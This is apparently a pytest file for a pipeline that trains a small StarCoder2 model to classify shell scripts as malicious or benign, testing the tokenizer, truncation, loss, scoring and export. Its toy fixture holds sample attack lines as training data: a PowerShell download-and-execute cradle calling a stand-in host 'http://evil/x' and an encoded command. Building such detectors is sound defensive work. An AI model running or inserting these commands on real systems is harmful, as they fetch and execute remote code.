"""The model package without training: tokenizer, prompt and truncation, head trimming, loss, scoring, save/load,
export and backend choice. Everything runs on the offline tiny StarCoder2."""
import random
import sys

import numpy as np
import pytest
import torch
import torch.nn.functional as F

from pipeline.config import ConfigError, LoraSection, ModelConfig, load_config
from pipeline.model import backends, head, prompt
from pipeline.model.tiny import build_tiny_model, train_tokenizer
from tests.model_configs import load_tiny

torch.set_num_threads(1)
MAX_LEN = 96


def toy_scripts(n: int, seed: int = 0) -> tuple[list[str], list[str], list[str]]:
    """n scripts of varied length, alternating malicious / benign: (texts, langs, labels)."""
    rng = random.Random(seed)
    bad = ["iex (New-Object Net.WebClient).DownloadString('http://evil/x')", "powershell -enc SQBFAFgA"]
    good = ["Get-ChildItem C:\\ | Sort-Object Length", "Write-Host 'hello world'"]
    texts, labels = [], []
    for i in range(n):
        label = "malicious" if i % 2 == 0 else "benign"
        lines = [rng.choice(bad if label == "malicious" else good) for _ in range(rng.randint(1, 4))]
        texts.append(f"# job {rng.randint(0, 999)}\n" + "\n".join(lines))
        labels.append(label)
    return texts, ["powershell"] * n, labels


TEXTS, LANGS, _ = toy_scripts(24)


@pytest.fixture(scope="module")
def tok():
    return train_tokenizer(prompt.tokenizer_corpus(TEXTS), vocab_size=512, max_length=MAX_LEN)


def perturbed(model, seed=1):
    """Move every trainable weight a little (LoRA's B starts at zero), as training would."""
    g = torch.Generator().manual_seed(seed)
    with torch.no_grad():
        for p in model.parameters():
            if p.requires_grad:
                p.add_(torch.randn(p.shape, generator=g) * 0.05)
    return model


def load(finetuning_type, **kw):
    return load_tiny(TEXTS, MAX_LEN, finetuning_type, **kw)


# ---- tokenizer and tiny model ----------------------------------------------------------------------------------


def test_tokenizer_is_deterministic_and_reloads(tok, tmp_path):
    from transformers import AutoTokenizer

    again = train_tokenizer(prompt.tokenizer_corpus(TEXTS), vocab_size=512, max_length=MAX_LEN)
    assert again.get_vocab() == tok.get_vocab()
    tok.save_pretrained(tmp_path)
    reloaded = AutoTokenizer.from_pretrained(tmp_path)
    assert [prompt.encode(t, lang, reloaded, MAX_LEN) for t, lang in zip(TEXTS, LANGS)] == \
           [prompt.encode(t, lang, tok, MAX_LEN) for t, lang in zip(TEXTS, LANGS)]
    assert (reloaded.eos_token, reloaded.pad_token, reloaded.padding_side) == ("<|endoftext|>", "<pad>", "right")


def test_tiny_model_init_is_seeded_and_leaves_global_rng_alone():
    torch.manual_seed(123)
    expected = torch.rand(3)
    torch.manual_seed(123)
    a = build_tiny_model(300, seed=7)
    assert torch.equal(torch.rand(3), expected)  # building did not draw from the global generator
    b, c = build_tiny_model(300, seed=7), build_tiny_model(300, seed=8)
    assert torch.equal(a.model.embed_tokens.weight, b.model.embed_tokens.weight)
    assert not torch.equal(a.model.embed_tokens.weight, c.model.embed_tokens.weight)


# ---- prompt ----------------------------------------------------------------------------------------------------


def test_every_tiny_config_field_either_builds_the_model_or_trains_it():
    """A new model.tiny key must reach build_tiny_model or be listed as a training field: otherwise it is a config key
    that nothing reads (or a TypeError at the first run)."""
    import inspect

    from pipeline.config import TinyModelConfig

    tiny = TinyModelConfig(hidden_size=64, num_layers=1, dropout=0.1)
    params = set(inspect.signature(build_tiny_model).parameters)
    assert set(tiny.architecture()) <= params
    assert set(tiny.architecture()) | TinyModelConfig.TRAINING_FIELDS == set(TinyModelConfig.model_fields)
    model = build_tiny_model(300, **tiny.architecture())
    assert (model.config.hidden_size, model.config.num_hidden_layers, model.config.residual_dropout) == (64, 1, 0.1)


def test_label_words_must_start_with_different_tokens():
    # Trained on text without " m" / " b", BPE splits both label words down to a bare " " first.
    raw = train_tokenizer(["abc def ghi"] * 20, vocab_size=300)
    with pytest.raises(ValueError, match="same token"):
        prompt.label_token_ids(raw)


def test_label_ids_follow_record_label_order(tok):
    benign, malicious = prompt.label_token_ids(tok)
    assert tok.decode([benign]).strip() and benign != malicious
    assert prompt.build_training_row("x", "bash", "benign", tok, MAX_LEN)["input_ids"][-1] == benign
    assert prompt.build_training_row("x", "bash", "malicious", tok, MAX_LEN)["input_ids"][-1] == malicious


def test_short_script_is_not_cut_and_row_marks_only_the_verdict(tok):
    ids = prompt.encode(TEXTS[0], "powershell", tok, MAX_LEN)
    parts = [prompt._ids(tok, s) for s in (prompt.PREFIX.format(lang="powershell"), TEXTS[0], prompt.SUFFIX)]
    assert ids == parts[0] + parts[1] + parts[2]
    row = prompt.build_training_row(TEXTS[0], "powershell", "malicious", tok, MAX_LEN)
    assert row["input_ids"][:-1] == ids  # training sees exactly the prediction prompt
    assert row["completion_mask"] == [0] * len(ids) + [1]


def test_long_script_is_cut_by_tokens_keeping_head_tail_and_verdict(tok):
    script = "".join(f"line {i}: Write-Host {i * 7919 % 1000}\n" for i in range(2000))
    assert len(script) > 50_000
    ids = prompt.encode(script, "powershell", tok, MAX_LEN, head_ratio=0.75)
    assert len(ids) == MAX_LEN - 1  # room left for exactly the verdict token
    prefix = prompt._ids(tok, prompt.PREFIX.format(lang="powershell"))
    suffix, marker, full = prompt._ids(tok, prompt.SUFFIX), prompt._ids(tok, prompt.MARKER), prompt._ids(tok, script)
    assert ids[:len(prefix)] == prefix and ids[-len(suffix):] == suffix
    body = ids[len(prefix):-len(suffix)]
    keep = len(body) - len(marker)
    head_n = round(keep * 0.75)
    assert body[:head_n] == full[:head_n]
    assert body[head_n:head_n + len(marker)] == marker
    assert body[head_n + len(marker):] == full[-(keep - head_n):]
    row = prompt.build_training_row(script, "powershell", "benign", tok, MAX_LEN)
    assert len(row["input_ids"]) == MAX_LEN and row["completion_mask"][-1] == 1


def test_special_token_text_in_a_script_stays_plain_text(tok):
    ids = prompt.encode("echo <|endoftext|> <pad>", "bash", tok, MAX_LEN)
    assert tok.eos_token_id not in ids and tok.pad_token_id not in ids


def test_max_length_too_small_for_the_template_is_an_error(tok):
    with pytest.raises(ValueError, match="max_length"):
        prompt.encode("x" * 1000, "powershell", tok, max_length=12)


# ---- head ------------------------------------------------------------------------------------------------------


def test_trimmed_head_reproduces_full_head_two_way_probabilities(tok, tmp_path):
    model = build_tiny_model(len(tok), seed=3)
    label_ids = list(prompt.label_token_ids(tok))
    prompts = [prompt.encode(t, lang, tok, MAX_LEN) for t, lang in zip(TEXTS, LANGS)]
    with torch.no_grad():
        expected = [torch.softmax(model(input_ids=torch.tensor([p])).logits[0, -1, label_ids], -1)[1].item()
                    for p in prompts]
    head.trim_lm_head(model, label_ids)
    model.tie_weights()  # must not bring the full-vocabulary head back
    assert model.lm_head.weight.shape == (2, model.config.hidden_size) and model.lm_head.bias is None
    got = head.score_ids(model, prompts, batch_size=5, pad_token_id=tok.pad_token_id)
    np.testing.assert_allclose(got, expected, atol=1e-5)
    assert model.config.sgpipe_label_token_ids == label_ids


def test_two_label_loss_smoothing_and_weights_by_hand():
    g = torch.Generator().manual_seed(0)
    logits, y = torch.randn(8, 2, generator=g), torch.tensor([0, 1, 1, 0, 1, 1, 1, 0])
    logp = F.log_softmax(logits, -1)
    true, other = logp[torch.arange(8), y], logp[torch.arange(8), 1 - y]
    per = -(0.95 * true + 0.05 * other)  # smoothing 0.1 over two classes: targets 0.95 / 0.05
    torch.testing.assert_close(head.two_label_loss(logits, y, smoothing=0.1), per.mean())
    w = torch.tensor([3.0, 0.5])
    torch.testing.assert_close(head.two_label_loss(logits, y, 0.1, w), (per * w[y]).sum() / 8)
    torch.testing.assert_close(head.two_label_loss(logits, y, 0.1, num_items=20), per.sum() / 20)
    torch.testing.assert_close(head.two_label_loss(logits, y), F.cross_entropy(logits, y))


def test_verdict_positions_reject_rows_without_exactly_one_label():
    labels = torch.tensor([[-100, -100, 7, -100], [-100, 9, -100, -100]])
    positions, y = head.verdict_positions(labels, (9, 7))
    assert positions.tolist() == [1, 0] and y.tolist() == [1, 0]
    with pytest.raises(ValueError, match="exactly one"):
        head.verdict_positions(torch.tensor([[5, 6, 7, 8]]), (9, 7))  # completion_only_loss off: every token labelled


def test_batched_scores_equal_one_at_a_time(tok):
    model = head.trim_lm_head(build_tiny_model(len(tok), seed=4), prompt.label_token_ids(tok))
    batched = head.score(model, tok, TEXTS, LANGS, MAX_LEN, batch_size=5)
    single = np.array([head.score(model, tok, [t], [lang], MAX_LEN)[0] for t, lang in zip(TEXTS, LANGS)])
    np.testing.assert_allclose(batched, single, atol=1e-6)
    assert batched.std() > 0


@pytest.mark.parametrize("finetuning_type", ["full", "lora"])
def test_save_then_load_gives_the_same_scores(finetuning_type, tmp_path):
    model, tokenizer, _ = load(finetuning_type)
    perturbed(model)
    before = head.score(model, tokenizer, TEXTS, LANGS, MAX_LEN)
    out = head.save_classifier(model, tokenizer, tmp_path / "clf", base_model=None)
    loaded, loaded_tok = head.load_classifier(out)
    np.testing.assert_allclose(head.score(loaded, loaded_tok, TEXTS, LANGS, MAX_LEN), before, atol=1e-6)
    assert (out / "base").is_dir() == (finetuning_type == "lora")
    assert not list(out.rglob("*.bin"))


def test_pickled_weights_are_refused_by_default(tmp_path):
    model, tokenizer, _ = load("full")
    out = head.save_classifier(model, tokenizer, tmp_path / "clf", base_model=None)
    (out / "model.safetensors").rename(out / "pytorch_model.bin")
    with pytest.raises(FileNotFoundError, match="allow_pickle"):
        head.load_classifier(out)


def test_lora_loads_onto_a_base_rebuilt_by_name(tmp_path):
    model, tokenizer, _ = load("lora")
    perturbed(model)
    before = head.score(model, tokenizer, TEXTS, LANGS, MAX_LEN)
    base_dir = tmp_path / "base_model"  # stands in for a hub id: the untrimmed base (same seed as load() used)
    untrimmed = build_tiny_model(len(tokenizer), max_position_embeddings=MAX_LEN, pad_token_id=tokenizer.pad_token_id,
                                 seed=0)
    untrimmed.save_pretrained(base_dir)
    tokenizer.save_pretrained(base_dir)
    out = head.save_classifier(model, tokenizer, tmp_path / "clf", base_model=str(base_dir))
    assert not (out / "base").exists()
    loaded, loaded_tok = head.load_classifier(out)
    np.testing.assert_allclose(head.score(loaded, loaded_tok, TEXTS, LANGS, MAX_LEN), before, atol=1e-6)


def test_export_matches_pipeline_scores(tmp_path):
    from transformers import AutoModelForSequenceClassification, AutoTokenizer

    model, tokenizer, _ = load("lora")
    perturbed(model)
    expected = head.score(model, tokenizer, TEXTS, LANGS, MAX_LEN)
    out = head.export_sequence_classifier(model, tokenizer, tmp_path / "export", max_length=MAX_LEN, head_ratio=0.75)
    exported = AutoModelForSequenceClassification.from_pretrained(out).eval()
    ex_tok = AutoTokenizer.from_pretrained(out)
    assert type(exported).__name__ == "Starcoder2ForSequenceClassification"
    assert exported.config.id2label == {0: "benign", 1: "malicious"}
    batch = ex_tok.pad({"input_ids": [prompt.encode(t, lang, ex_tok, MAX_LEN) for t, lang in zip(TEXTS, LANGS)]},
                       return_tensors="pt")
    with torch.no_grad():
        got = torch.softmax(exported(**batch).logits, -1)[:, 1].numpy()
    np.testing.assert_allclose(got, expected, atol=1e-4)
    # the merge happened on a copy: the adapter model still scores the same
    np.testing.assert_allclose(head.score(model, tokenizer, TEXTS, LANGS, MAX_LEN), expected, atol=1e-7)


# ---- backends --------------------------------------------------------------------------------------------------


def test_backend_choice_never_imports_unsloth_without_cuda(monkeypatch):
    monkeypatch.setattr(torch.cuda, "is_available", lambda: False)
    monkeypatch.setattr(backends, "_unsloth_installed", lambda: True)  # even when it is installed
    assert backends.choose_backend("auto") == "hf"
    assert backends.choose_backend("hf") == "hf"
    with pytest.raises(ValueError, match="CUDA"):
        backends.choose_backend("unsloth")
    with pytest.raises(ConfigError, match="model.backend"):  # the schema checks the name: one source of truth
        load_config(overrides=["model.backend=vllm"])
    assert "unsloth" not in sys.modules


def test_4bit_on_cpu_names_the_override(monkeypatch):
    monkeypatch.setattr(torch.cuda, "is_available", lambda: False)
    with pytest.raises(ValueError, match="--set model.load_in_4bit=false"):
        backends.load_model(ModelConfig(model_id="some/model", load_in_4bit=True, max_length=MAX_LEN), LoraSection(),
                            device=backends.resolve_device("auto"), seed=0)


def test_target_modules_are_checked_against_the_model(tok):
    model = build_tiny_model(len(tok))
    real = ["c_fc", "c_proj", "k_proj", "o_proj", "q_proj", "v_proj"]
    assert backends.validate_target_modules(model, ["all-linear"]) == real
    assert backends.validate_target_modules(model, ["q_proj", "v_proj"]) == ["q_proj", "v_proj"]
    with pytest.raises(ValueError, match="gate_proj") as e:
        backends.validate_target_modules(model, ["q_proj", "gate_proj", "up_proj", "down_proj"])
    assert all(name in str(e.value) for name in real)


def test_unreachable_hub_is_one_clear_error(monkeypatch, tmp_path):
    import huggingface_hub.constants

    monkeypatch.setattr(huggingface_hub.constants, "HF_HUB_OFFLINE", True)  # as with no network, without the retries
    with pytest.raises(backends.ModelUnavailable, match="unreachable.*local directory") as e:
        backends.load_model(ModelConfig(model_id="sgpipe-tests/no-such-model", backend="hf", load_in_4bit=False,
                                        max_length=MAX_LEN), LoraSection(), device="cpu", seed=0)
    assert e.value.__cause__ is None and e.value.__suppress_context__


def test_load_model_lora_trains_adapters_and_the_two_row_head():
    model, tokenizer, info = load("lora", lora={"r": 4, "target_modules": ["q_proj", "v_proj"]})
    trainable = {n for n, p in model.named_parameters() if p.requires_grad}
    assert trainable and all("lora_" in n or "lm_head.modules_to_save" in n for n in trainable)
    assert any("lm_head.modules_to_save" in n for n in trainable)
    assert info["backend"] == "hf" and info["attention"] == "sdpa" and info["load_in_4bit"] is False
    assert 0 < info["trainable_params"] < info["total_params"]
    assert info["label_token_ids"] == list(prompt.label_token_ids(tokenizer))
